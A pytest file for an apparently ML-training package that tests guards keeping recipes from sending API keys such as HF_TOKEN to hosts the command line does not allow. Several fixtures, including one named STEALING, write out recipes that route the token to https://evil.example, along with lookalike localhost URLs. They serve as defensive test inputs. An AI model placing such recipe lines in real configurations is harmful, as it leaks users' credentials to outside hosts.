"""Who gets a key is said on the command line, and what a run reads and asks is told before it starts."""

from __future__ import annotations

import pytest

from unigrpo.errors import Interrupted, RecipeError
from unigrpo.rewards._remote import RemoteReward
from unigrpo.runs.again import command_again
from unigrpo.runs.build import build_accuracy, build_rewards
from unigrpo.runs.cli import main
from unigrpo.runs.reach import code_of, sources_of, told_before
from unigrpo.runs.recipe import load_recipe

from ..support.recipes import MINIMAL, recipe


pytestmark = pytest.mark.smoke

STEALING = "rewards=[{name: remote, args: {url: 'https://evil.example/score', api_key_env: HF_TOKEN}}]"
JUDGE = "rewards=[{name: judge, args: {model: m, base_url: 'http://10.0.0.5:8000/v1'}}]"
SEEING = JUDGE.replace("judge", "vqa_score").replace("10.0.0.5", "10.0.0.6")
BY_PATH = "rewards=[{name: 'unigrpo.rewards._remote:RemoteReward', args: {url: 'https://evil.example/', api_key_env: HF_TOKEN}}]"


@pytest.fixture(autouse=True)
def keys(monkeypatch):
    for name in ("HF_TOKEN", "OPENAI_API_KEY"):
        monkeypatch.setenv(name, "a-secret-of-mine")


@pytest.mark.parametrize(
    ("reward", "host"),
    [(STEALING, "evil.example"), (JUDGE, "10.0.0.5"), (SEEING, "10.0.0.6"), (BY_PATH, "evil.example")],
)
def test_a_recipe_cannot_send_a_key_where_the_command_line_does_not_let_it(reward, host, tmp_path):
    with pytest.raises(RecipeError, match=rf"would be sent to {host}: .*allow_hosts=\[{host}\]") as caught:
        build_rewards(recipe(tmp_path, MINIMAL, reward))
    assert "a-secret-of-mine" not in str(caught.value)
    build_rewards(recipe(tmp_path, MINIMAL, reward, f"allow_hosts=[other.example, {host.upper()}]"))
    with pytest.raises(RecipeError, match="would be sent"):
        build_rewards(recipe(tmp_path, MINIMAL, reward, f"allow_hosts=[{host}.other.example]"))


def test_a_measure_is_no_way_around_it(tmp_path):
    measure = "accuracy.text={name: remote, url: 'https://evil.example/', api_key_env: HF_TOKEN}"
    given = recipe(tmp_path, MINIMAL, measure)
    assert "asks a service: https://evil.example/ (remote), key from HF_TOKEN" in code_of(given)
    with pytest.raises(RecipeError, match=r"would be sent to evil\.example"):
        build_accuracy(given)


def test_a_service_is_told_and_no_source_and_so_is_a_file_that_it_fills(tmp_path):
    given = recipe(tmp_path, MINIMAL, SEEING, "rewards.0.args.cache_file=/tmp/answers.jsonl")
    told = code_of(given)
    assert "asks a service: http://10.0.0.6:8000/v1 (vqa_score), key from OPENAI_API_KEY" in told
    assert "leads out of output_dir: cache_file='/tmp/answers.jsonl' (vqa_score)" in told
    assert not [line for line in sources_of(given) if "vqa_score" in line]
    served = recipe(tmp_path, MINIMAL, "rewards=[{name: reward_model_server, args: {model: m}}]")
    assert "asks a service: http://127.0.0.1:8000 (reward_model_server), no key" in code_of(served)


def test_the_command_ends_before_anything_is_sent(tmp_path, capsys):
    recipe(tmp_path)
    assert main(["train", str(tmp_path / "recipe.yaml"), STEALING]) == 2
    shown = capsys.readouterr()
    assert "allow_hosts=[evil.example]" in shown.err and "a-secret-of-mine" not in shown.out + shown.err
    assert "asks a service: https://evil.example/score (remote), key from HF_TOKEN" in shown.out


def test_a_recipe_cannot_allow_itself_a_host(tmp_path):
    with pytest.raises(RecipeError, match="allow_hosts belongs on the command line"):
        recipe(tmp_path, MINIMAL + "allow_hosts: [evil.example]\n")
    with pytest.raises(RecipeError, match="must be names of hosts, such as"):
        recipe(tmp_path, MINIMAL, "allow_hosts=['https://evil.example/']")


@pytest.mark.parametrize("url", ["http://127.0.0.1:1/", "http://localhost:1/", "http://[::1]:1/", "http://127.9.9.9/"])
def test_a_service_on_this_machine_needs_no_leave(url, tmp_path):
    build_rewards(recipe(tmp_path, MINIMAL, STEALING.replace("https://evil.example/score", url)))


@pytest.mark.parametrize(
    "url", ["http://localhost.evil.example/", "http://127.0.0.1.evil.example/", "http://0x7f000001.example/"]
)
def test_a_host_that_looks_like_this_machine_needs_leave(url, tmp_path):
    with pytest.raises(RecipeError, match="would be sent"):
        build_rewards(recipe(tmp_path, MINIMAL, STEALING.replace("https://evil.example/score", url)))


def test_without_a_key_no_leave_is_needed_and_a_later_one_does_not_slip_through(tmp_path, monkeypatch):
    monkeypatch.delenv("HF_TOKEN")
    [reward] = build_rewards(recipe(tmp_path, MINIMAL, STEALING))
    monkeypatch.setenv("HF_TOKEN", "set-meanwhile")
    with pytest.raises(ValueError, match="would be sent"):
        reward(["p"], ["c"])


def test_from_python_the_author_of_the_script_chooses():
    RemoteReward("https://own.example/", api_key_env="HF_TOKEN").check_key()


# ---- code in arguments ----


@pytest.mark.parametrize("name", ["object_check", "unigrpo.rewards.objects:ObjectCheck"])
def test_a_detector_that_a_reward_or_a_measure_names_is_code(tmp_path, name):
    own = f"{{name: '{name}', args: {{detector: 'somebody:sees'}}}}"
    asked = recipe(tmp_path, MINIMAL, f"rewards=[{own}, {{name: ocr, args: {{reader: 'somebody:reads'}}}}]")
    assert {f"runs code: somebody:sees ({name})", "runs code: somebody:reads (ocr)"} <= set(code_of(asked))
    measure = f"accuracy={{text: {{name: '{name}', detector: 'somebody:sees'}}}}"
    assert f"runs code: somebody:sees ({name})" in code_of(recipe(tmp_path, MINIMAL, measure))


def test_a_detector_lies_beside_the_recipe(tmp_path):
    (tmp_path / "my_detector.py").write_text("def sees(pictures, classes):\n    return [[] for _ in pictures]\n")
    asked = recipe(tmp_path, MINIMAL, "rewards=[{name: object_check, args: {detector: 'my_detector:sees'}}]")
    (reward,) = build_rewards(asked)
    assert reward.detector([1, 2], [[], []]) == [[], []]


# ---- told before ----


def test_what_is_asked_and_read_is_listed_once_with_its_uses(tmp_path, capsys):
    (tmp_path / "rows.jsonl").write_text("{}")
    asked = recipe(
        tmp_path,
        MINIMAL,
        "model.path=somebody/model",
        "datasets=[{path: 'builtin:arithmetic'}, {path: somebody/data}, {path: rows.jsonl}]",
        "eval_datasets=[{path: somebody/data}]",
        "image_tokenizer=./tokenizer",
        "rewards=[{name: clip_score}, {name: somebody/scorer}, {name: think_format}]",
        "deepspeed=zero2.json",
    )
    assert sources_of(asked) == [
        "asks the hub for: somebody/model (model)",
        "reads: ./tokenizer (image_tokenizer)",
        "asks the hub for: somebody/data (datasets, eval_datasets)",
        "reads: rows.jsonl (datasets)",
        "asks the hub for: openai/clip-vit-large-patch14 (clip_score)",
        "asks the hub for: somebody/scorer (rewards)",
        "reads: zero2.json (deepspeed)",
    ]
    assert main(["check", "--list-code", str(tmp_path / "recipe.yaml"), "model.path=somebody/model"]) == 0
    assert "asks the hub for: somebody/model (model)" in capsys.readouterr().out


def test_a_run_that_reaches_nothing_says_so():
    assert told_before(load_recipe("quickstart")) == [
        "quickstart:",
        "  writes: runs/quickstart",
        "  reaches nothing that does not ship with the package",
    ]


# ---- how to go on ----


@pytest.mark.parametrize(
    ("error", "said"), [(Interrupted("stopped"), ""), (KeyboardInterrupt(), "unigrpo: interrupted\n")]
)
def test_ctrl_c_is_status_130_and_no_traceback(error, said, monkeypatch, capsys):
    def interrupted(*_, **__):
        raise error

    monkeypatch.setattr("unigrpo.runs.train.run_recipe", interrupted)
    assert main(["train", "quickstart"]) == 130
    assert capsys.readouterr().err == said


@pytest.mark.parametrize(
    ("overrides", "output_dir", "command"),
    [
        ([], "out", "unigrpo train SOURCE resume_from_checkpoint=true"),
        (["seed=1", "resume_from_checkpoint=false"], "out", "unigrpo train SOURCE seed=1 resume_from_checkpoint=true"),
        (["output_dir=a b"], "a b", "unigrpo train SOURCE 'output_dir=a b' resume_from_checkpoint=true"),
        ([], "out-2", "unigrpo train SOURCE output_dir=out-2 resume_from_checkpoint=true"),
    ],
)
def test_the_command_that_goes_on_is_one_to_be_typed(overrides, output_dir, command, tmp_path):
    given = recipe(tmp_path, MINIMAL, *overrides)
    assert command_again(given, output_dir, 1) == command.replace("SOURCE", given.source)


@pytest.mark.parametrize("processes", [1, 2])
def test_a_file_that_says_overwrite_does_not_delete_what_goes_on(processes, tmp_path):
    given = recipe(tmp_path, MINIMAL + "overwrite: true\n")
    assert command_again(given, "out", processes).endswith("resume_from_checkpoint=true overwrite=false")
    on_the_line = recipe(tmp_path, MINIMAL, "overwrite=true")
    assert command_again(on_the_line, "out", processes).endswith("resume_from_checkpoint=true")
